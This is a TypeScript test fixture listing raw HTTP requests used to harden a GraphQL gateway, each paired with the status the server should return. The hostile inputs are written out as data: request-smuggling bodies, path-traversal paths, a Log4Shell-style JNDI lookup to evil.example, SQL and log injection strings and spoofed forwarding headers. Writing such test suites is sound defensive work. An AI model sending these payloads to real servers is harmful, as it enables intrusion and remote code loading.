import type { SocketAttack } from './attacks.ts';

// Bytes that no client of HTTP would send. `CLOSE` makes the server end the connection behind its answer.

const CLOSE = 'Connection: close';
const body = '{"query": "{ viewer { scopes } }"}';
const LENGTH = `Content-Length: ${body.length}`;
const JSON_TYPE = 'Content-Type: application/json';
const HOST = 'Host: gateway.example';
const query = `/graphql?query=${encodeURIComponent('{ viewer { scopes } }')}`;

const raw = (line: string, headers: readonly string[], content = '') =>
  `${line} HTTP/1.1\r\n${headers.map((header) => `${header}\r\n`).join('')}\r\n${content}`;
const bearer = (key: string) => `Authorization: Bearer ${key}`;
const post = (key: string, headers: readonly string[], content = body) =>
  raw('POST /graphql', [HOST, bearer(key), JSON_TYPE, ...headers], content);
const get = (path: string, headers: readonly string[]) => raw(`GET ${path}`, [...headers, CLOSE]);

/** One attack for each of many values. */
const each = (kind: string, status: number, values: readonly string[], bytes: (value: string, key: string) => string) =>
  values.map((value): SocketAttack => {
    return { kind, name: JSON.stringify(value).slice(0, 60), bytes: (key) => bytes(value, key), statuses: [status] };
  });

const paths: readonly SocketAttack[] = [
  ...each(
    'paths without a key',
    401,
    ['/graphql?x=/livez', '/graphql?/readyz', '/graphql?', '/graphql?/graphql/livez'],
    (path) => get(path, [HOST]),
  ),
  ...each(
    'other paths',
    404,
    [
      ...['//graphql', '/graphql/', '/GRAPHQL', '/graphql%2f', '/./graphql', '/livez/../graphql', '/livez;/graphql'],
      ...['/__proto__', '/constructor', '/toString', '/graphql/livez', 'http://evil.example/graphql', '*'],
    ],
    (path, key) => get(path, [HOST, bearer(key)]),
  ),
];

const methods: readonly SocketAttack[] = [
  ...each('methods', 405, ['PUT', 'DELETE', 'PATCH', 'HEAD', 'TRACE', 'PROPFIND'], (method, key) =>
    raw(`${method} ${query}`, [HOST, bearer(key), CLOSE]),
  ),
  ...each('methods', 400, ['FOO', 'get', 'GET\t', '\x16\x03\x01', 'PRI'], (method, key) =>
    raw(`${method} ${query}`, [HOST, bearer(key), CLOSE]),
  ),
  { kind: 'methods', name: 'CONNECT', bytes: () => raw('CONNECT evil.example:443', [HOST]), statuses: [] },
];

const headers: readonly SocketAttack[] = [
  ...each(
    'Host',
    200,
    ['[::1', 'a b', 'evil.example:99999', '', '../../x', '<script>', 'a/b?c#d', '%00', 'é'],
    (host, key) => get(query, [`Host: ${host}`, bearer(key)]),
  ),
  { kind: 'Host', name: 'none', bytes: (key) => get(query, [bearer(key)]), statuses: [400] },
  {
    kind: 'Authorization',
    name: 'twice, the first good',
    bytes: (key) => get(query, [HOST, bearer(key), bearer('clt_x')]),
    statuses: [200],
  },
  {
    kind: 'Authorization',
    name: 'twice, the second good',
    bytes: (key) => get(query, [HOST, bearer('clt_x'), bearer(key)]),
    statuses: [401],
  },
  ...each(
    'Authorization',
    401,
    ['Bearer', 'Basic YTpi', `Bearer ${'x'.repeat(5_000)}`, "Bearer ' or 1=1 --", 'Bearer \xe9', 'Bearer clt_%00_a'],
    (value) => get(query, [HOST, `Authorization: ${value}`]),
  ),
  ...each(
    'other headers',
    200,
    [
      'X-Forwarded-For: 127.0.0.1\r\nX-Forwarded-Proto: https\r\nX-Forwarded-Host: evil.example',
      'Forwarded: for=127.0.0.1;host=evil.example;proto=https',
      'X-Original-URL: /livez\r\nX-Rewrite-URL: /livez',
      'Origin: https://evil.example',
      'Origin: null',
      'Upgrade: websocket\r\nConnection: Upgrade',
      'X-Request-Id: INJECTED {"level":60}',
      'X-Request-Id: 850709-9805',
      'User-Agent: INJECTED $' + '{jndi:ldap://evil.example}',
      'traceparent: 00-INJECTED-x-99',
      'Range: bytes=0-0',
      'If-Modified-Since: Fri, 31 Dec 9999 23:59:59 GMT',
    ],
    (value, key) => get(query, [HOST, bearer(key), value]),
  ),
  ...each('Accept', 200, ['*/*', 'text/event-stream, application/json;q=0.1', 'application/json;q=NaN'], (type, key) =>
    get(query, [HOST, bearer(key), `Accept: ${type}`]),
  ),
  ...each(
    'Accept',
    406,
    ['image/png', 'text/html', 'text/event-stream', 'multipart/mixed', 'x'.repeat(5_000)],
    (type, key) => get(query, [HOST, bearer(key), `Accept: ${type}`]),
  ),
  ...each('long headers', 431, ['X-Long', 'Authorization', 'Cookie'], (name) =>
    get(query, [HOST, `${name}: ${'x'.repeat(20_000)}`]),
  ),
  ...each(
    'broken headers',
    400,
    ['X Y: 1', ': 1', 'X-Line: a\n b\r\n c', 'X-Nul: \0', 'X-Bell: \x07', 'X-Request-Id: \x1b[31m'],
    (header, key) => get(query, [HOST, bearer(key), header]),
  ),
];

const lengths: readonly SocketAttack[] = [
  {
    kind: 'lengths',
    name: 'a length and chunks',
    bytes: (key) => post(key, [LENGTH, 'Transfer-Encoding: chunked', CLOSE], `0\r\n\r\n${body}`),
    statuses: [400],
  },
  {
    kind: 'lengths',
    name: 'two lengths',
    bytes: (key) => post(key, [LENGTH, 'Content-Length: 5', CLOSE]),
    statuses: [400],
  },
  {
    kind: 'lengths',
    name: 'chunks by another name',
    bytes: (key) => post(key, ['Transfer-Encoding: xchunked', CLOSE]),
    statuses: [400],
  },
  {
    kind: 'lengths',
    name: 'less than nothing',
    bytes: (key) => post(key, ['Content-Length: -1', CLOSE]),
    statuses: [400],
  },
  {
    kind: 'lengths',
    name: 'more than there is',
    bytes: (key) => post(key, ['Content-Length: 999']),
    ends: true,
    statuses: [400],
  },
  {
    kind: 'lengths',
    name: 'less than there is',
    bytes: (key) => post(key, ['Content-Length: 5']),
    statuses: [400],
  },
  {
    kind: 'lengths',
    name: 'more than 1 MB, of which nothing comes',
    bytes: (key) => post(key, ['Content-Length: 99999999'], '{'),
    statuses: [413],
  },
  {
    kind: 'lengths',
    name: 'half a chunk',
    bytes: (key) => post(key, ['Transfer-Encoding: chunked'], '5\r\n{"q'),
    ends: true,
    statuses: [400],
  },
  {
    kind: 'lengths',
    name: 'a chunk that is none',
    bytes: (key) => post(key, ['Transfer-Encoding: chunked', CLOSE], 'zz\r\n{}\r\n'),
    statuses: [400],
  },
  {
    kind: 'lengths',
    name: 'a chunk with a tail of 100 KB',
    bytes: (key) => post(key, ['Transfer-Encoding: chunked', CLOSE], `2;${'x'.repeat(100_000)}\r\n{}\r\n0\r\n\r\n`),
    statuses: [413],
  },
  {
    kind: 'lengths',
    name: 'a byte a chunk',
    bytes: (key) =>
      post(
        key,
        ['Transfer-Encoding: chunked', CLOSE],
        `${[...body].map((byte) => `1\r\n${byte}\r\n`).join('')}0\r\n\r\n`,
      ),
    statuses: [200],
  },
  {
    kind: 'pipelining',
    name: 'two requests at once',
    bytes: (key) => post(key, [LENGTH]) + post(key, [LENGTH, CLOSE]),
    statuses: [200, 200],
  },
  {
    kind: 'pipelining',
    name: 'one with a key, one without',
    bytes: (key) => post(key, [LENGTH]) + get(query, [HOST]),
    statuses: [200, 401],
  },
  {
    kind: 'pipelining',
    name: '100 requests, of which none is waited for',
    bytes: (key) => post(key, [LENGTH]).repeat(100),
    ends: true,
    statuses: [],
  },
  {
    kind: 'pipelining',
    name: 'promised with Expect',
    bytes: (key) => post(key, [LENGTH, 'Expect: 100-continue', CLOSE]),
    statuses: [100, 200],
  },
  {
    kind: 'pipelining',
    name: 'another promise',
    bytes: (key) => post(key, [LENGTH, 'Expect: the-inquisition', CLOSE]),
    statuses: [417],
  },
  {
    kind: 'no HTTP',
    name: 'TLS',
    bytes: () => Buffer.from('16030100a5010000a10303', 'hex'),
    ends: true,
    statuses: [400],
  },
  { kind: 'no HTTP', name: 'nothing', bytes: () => '', ends: true, statuses: [] },
  { kind: 'no HTTP', name: 'a line', bytes: () => 'EHLO evil.example\r\n', statuses: [400] },
  { kind: 'no HTTP', name: 'HTTP/0.9', bytes: () => 'GET /graphql\r\n\r\n', statuses: [401] },
];

export const socketAttacks: readonly SocketAttack[] = [...paths, ...methods, ...headers, ...lengths];
